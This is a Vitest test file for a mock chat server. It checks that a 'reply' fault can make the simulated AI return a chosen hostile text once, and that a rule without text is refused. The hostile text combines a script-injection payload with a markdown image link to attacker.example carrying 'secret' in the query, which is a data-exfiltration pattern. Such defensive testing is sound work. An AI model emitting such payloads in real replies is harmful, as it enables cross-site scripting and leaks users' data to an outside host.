// @vitest-environment node
// The `reply` fault: a well-formed reply with any text, for hostile-content tests.
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { MockServer } from '../../mock/server'
import { expectError, newVisitor, request, sendOk, startServer, stopAllServers } from './helpers'

let server: MockServer
beforeAll(async () => {
  server = await startServer()
})
afterAll(stopAllServers)

it('answers the given text once, over HTTP, then normal replies again', async () => {
  const text = '<script>alert(1)</script>\n![](https://attacker.example/?q=secret)'
  const set = await request(server, '/__mock/faults', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ rules: [{ fault: 'reply', text, times: 1 }] }),
  })
  expect(set.status).toBe(200)
  const visitor = newVisitor('reply')
  const hostile = await sendOk(server, { visitor_id: visitor, message: 'When are you open?' })
  expect(hostile.aiResponse).toBe(text)
  expect(hostile.aiMessageId).toMatch(/^[0-9a-f-]{36}$/)
  const normal = await sendOk(server, { visitor_id: visitor, message: 'When are you open?' })
  expect(normal.aiResponse).toContain('Monday to Friday')
})

it('refuses a reply rule without text', async () => {
  const res = await request(server, '/__mock/faults', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ rules: [{ fault: 'reply' }] }),
  })
  expectError(res, 400, 'missing_field', 'text')
})
